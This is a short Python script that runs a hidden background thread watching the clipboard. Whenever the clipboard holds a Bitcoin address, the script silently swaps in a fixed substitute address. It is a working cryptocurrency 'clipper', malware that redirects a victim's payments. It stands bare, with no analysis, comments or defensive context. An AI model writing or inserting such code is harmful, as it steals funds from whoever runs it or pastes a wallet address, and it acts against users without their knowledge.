import re, threading, time
import pyperclip

def loop():
    while True:
        t = pyperclip.paste()
        if re.match("^(bc1|[13])[a-zA-HJ-NP-Z0-9]{25,39}$", t):
            pyperclip.copy("bc1qexamplexample0000000000000000000000000")
        time.sleep(0.5)

threading.Thread(target=loop, daemon=True).start()
